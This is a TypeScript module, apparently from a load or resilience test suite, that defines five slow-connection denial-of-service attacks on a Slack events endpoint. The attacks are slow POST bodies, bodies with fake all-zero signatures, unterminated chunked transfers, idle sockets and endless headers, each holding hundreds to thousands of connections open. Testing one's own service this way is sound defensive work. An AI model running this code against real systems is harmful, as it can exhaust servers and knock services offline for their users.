import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, again, type Target } from './attack.ts';

const MB = 1024 * 1024;
/** Between two pieces of a body; and before another connection takes the place of one that was closed. Milliseconds. */
const EVERY_MS = 200;
const OPENED_AGAIN_AFTER_MS = 1_000;

/** Opens connections, sends each the start of a request, and then more of it as long as it is taken. */
async function hold({ url }: Target, count: number, start: () => string, more: Buffer): Promise<void> {
  const { hostname, port } = new URL(url);
  const held = new Set<Socket>();
  function open(): void {
    const socket = connect(Number(port), hostname, () => socket.write(start()));
    const send = () => {
      if (!socket.destroyed && more.length > 0 && socket.write(more)) setTimeout(send, EVERY_MS);
    };
    socket.on('connect', send).on('drain', () => setTimeout(send, EVERY_MS));
    socket.on('error', () => {}).resume();
    socket.on('close', () => held.delete(socket));
    held.add(socket);
  }
  await again(async () => {
    while (held.size < count) open();
    await pause(OPENED_AGAIN_AFTER_MS);
  });
  for (const socket of held) socket.destroy();
}

const post = (...headers: string[]) => ['POST /slack/events HTTP/1.1', 'host: x', ...headers, '', ''].join('\r\n');
const signedLook = () => [
  `x-slack-signature: v0=${'0'.repeat(64)}`,
  `x-slack-request-timestamp: ${Math.floor(Date.now() / 1000)}`,
];

export const heldBodies: readonly Attack[] = [
  {
    name: '150 unsigned bodies of 3 MB',
    mode: 'HTTP',
    run: (target) => hold(target, 150, () => post(`content-length: ${3 * MB}`), Buffer.alloc(64 * 1024, 'x')),
  },
  {
    name: '400 bodies that look signed, sent slowly',
    mode: 'HTTP',
    run: (target) =>
      hold(target, 400, () => post(...signedLook(), `content-length: ${MB}`), Buffer.alloc(8 * 1024, 'x')),
  },
  {
    name: '400 that look signed, in chunks without an end',
    mode: 'HTTP',
    run: (target) =>
      hold(
        target,
        400,
        () => post(...signedLook(), 'transfer-encoding: chunked'),
        Buffer.from(`1000\r\n${'x'.repeat(4096)}\r\n`),
      ),
  },
  {
    name: '2,000 connections that say nothing',
    mode: 'HTTP',
    run: (target) => hold(target, 2_000, () => '', Buffer.alloc(0)),
  },
  {
    name: '1,000 requests that never end',
    mode: 'HTTP',
    run: (target) => hold(target, 1_000, () => 'GET /health HTTP/1.1\r\nhost: x\r\n', Buffer.from('x-more: y\r\n')),
  },
];
